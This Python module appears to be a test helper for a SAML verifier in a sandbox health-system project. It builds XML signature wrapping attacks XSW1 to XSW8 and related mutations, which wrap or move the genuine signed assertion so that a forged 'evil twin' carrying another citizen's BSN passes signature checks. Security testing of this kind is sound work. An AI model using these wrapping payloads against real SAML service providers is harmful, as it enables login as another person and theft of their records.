"""Changes of a SAML Response. Wrapped documents keep a genuine signature that still verifies.

XSW1 to XSW8 are the shapes of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012).
"""

import re
from collections.abc import Callable
from copy import deepcopy

from lxml import etree
from lxml.etree import _Element

from sandbox.his.saml import DS, SAML, SAMLP

EVIL_BSN = "999999151"
"""A BSN of the test range that the genuine signer never signed."""

ASSERTION, RESPONSE, SIGNATURE = f"{{{SAML}}}Assertion", f"{{{SAMLP}}}Response", f"{{{DS}}}Signature"
Change = Callable[[_Element], _Element | None]
"""In place, or to another root."""

_NINE_DIGITS = re.compile(r"\b[0-9]{9}\b", re.ASCII)


def ds(name: str) -> str:
    return f"{{{DS}}}{name}"


def saml(name: str) -> str:
    return f"{{{SAML}}}{name}"


def find(root: _Element, tag: str) -> _Element:
    """The first element of this name, which must be there."""
    return next(root.iter(tag))


def assertion_of(root: _Element) -> _Element:
    return find(root, ASSERTION)


def signature_of(element: _Element) -> _Element:
    """Its own Signature, which must be there."""
    found = element.find(SIGNATURE)
    if found is None:
        raise LookupError("not signed")
    return found


def parent_of(element: _Element) -> _Element:
    """The element around it, which must be there."""
    parent = element.getparent()
    if parent is None:
        raise LookupError("the root has no parent")
    return parent


def evil_twin(original: _Element, *, keep_signature: bool = False) -> _Element:
    """A copy with other IDs and another BSN wherever nine digits stand."""
    twin = deepcopy(original)
    for number, identified in enumerate(twin.iter(RESPONSE, ASSERTION)):
        identified.set("ID", f"_evil{number}" + "0123456789abcdef" * 2)
    for signature in list(twin.iter(SIGNATURE)):
        if not keep_signature:
            parent_of(signature).remove(signature)
    for value in twin.iter(saml("AttributeValue")):
        for element in value.iter("*"):
            element.text = _NINE_DIGITS.sub(EVIL_BSN, element.text or "")
            if "extension" in element.attrib:
                element.set("extension", EVIL_BSN)
    return twin


def unsigned_copy(element: _Element) -> _Element:
    copy = deepcopy(element)
    copy.remove(signature_of(copy))
    return copy


def xsw1(root: _Element) -> _Element:
    """Evil Response around the Response's Signature, the original inside that Signature."""
    evil = evil_twin(root)
    signature = deepcopy(signature_of(root))
    signature.append(unsigned_copy(root))
    evil.insert(1, signature)
    return evil


def xsw2(root: _Element) -> _Element:
    """Evil Response with the original before the detached Signature."""
    evil = evil_twin(root)
    evil.insert(1, unsigned_copy(root))
    evil.insert(2, deepcopy(signature_of(root)))
    return evil


def xsw3(root: _Element) -> None:
    """Evil Assertion first, the original after it."""
    original = assertion_of(root)
    original.addprevious(evil_twin(original))


def xsw3_last(root: _Element) -> None:
    original = assertion_of(root)
    original.addnext(evil_twin(original))


def xsw4(root: _Element) -> None:
    """The original inside the evil Assertion."""
    original = assertion_of(root)
    evil = evil_twin(original)
    root.replace(original, evil)
    evil.append(original)


def xsw5(root: _Element) -> None:
    """The Signature moved into the evil Assertion, the original without it at the end."""
    original = assertion_of(root)
    root.replace(original, evil_twin(original, keep_signature=True))
    root.append(unsigned_copy(original))


def xsw6(root: _Element) -> None:
    """The original inside the Signature of the evil Assertion."""
    original = assertion_of(root)
    evil = evil_twin(original, keep_signature=True)
    signature_of(evil).append(unsigned_copy(original))
    root.replace(original, evil)


def xsw7(root: _Element) -> None:
    """Evil Assertion inside Extensions."""
    original = assertion_of(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil_twin(original))
    original.addprevious(extensions)


def xsw8(root: _Element) -> None:
    """The original inside a ds:Object of the evil Assertion's Signature."""
    original = assertion_of(root)
    evil = evil_twin(original, keep_signature=True)
    etree.SubElement(signature_of(evil), ds("Object")).append(unsigned_copy(original))
    root.replace(original, evil)


def original_hidden_in(*tags: str) -> Change:
    """Evil Assertion in place, the original wrapped in these elements somewhere else."""

    def change(root: _Element) -> None:
        original = assertion_of(root)
        root.replace(original, evil_twin(original))
        place = root
        for tag in tags:
            found = place.find(tag)
            place = etree.SubElement(place, tag) if found is None else found
        place.append(original)

    return change


def whole_response_nested(root: _Element) -> _Element:
    evil = evil_twin(root)
    evil.append(root)
    return evil


def sibling_in_namespace(namespace: str | None) -> Change:
    """An evil Assertion that only a reader of local names would take for one."""

    def change(root: _Element) -> None:
        evil = evil_twin(assertion_of(root))
        evil.tag = "Assertion" if namespace is None else f"{{{namespace}}}Assertion"
        root.insert(2, evil)

    return change


def transforms(*algorithms: str) -> Change:
    """Replace the Assertion signature's transforms."""

    def change(root: _Element) -> None:
        place = find(root, ds("Transforms"))
        for each in list(place):
            place.remove(each)
        for algorithm in algorithms:
            etree.SubElement(place, ds("Transform"), Algorithm=algorithm)

    return change


def with_child(parent_tag: str, child_tag: str, content: str | None = None, **attributes: str) -> Change:
    """Append an element to the first element of a name."""

    def change(root: _Element) -> None:
        child = etree.SubElement(find(root, parent_tag), child_tag, attributes)
        child.text = content

    return change


def with_attribute(tag: str, name: str, value: str | None) -> Change:
    """Set an attribute of the first element of a name; None takes it away."""

    def change(root: _Element) -> None:
        element = find(root, tag)
        if value is None:
            del element.attrib[name]
        else:
            element.set(name, value)

    return change


def without(tag: str) -> Change:
    """Remove the first element of a name."""

    def change(root: _Element) -> None:
        element = find(root, tag)
        parent_of(element).remove(element)

    return change


def twice(tag: str) -> Change:
    """Repeat the first element of a name beside itself."""

    def change(root: _Element) -> None:
        element = find(root, tag)
        element.addnext(deepcopy(element))

    return change


def with_text(tag: str, content: str) -> Change:
    def change(root: _Element) -> None:
        find(root, tag).text = content

    return change
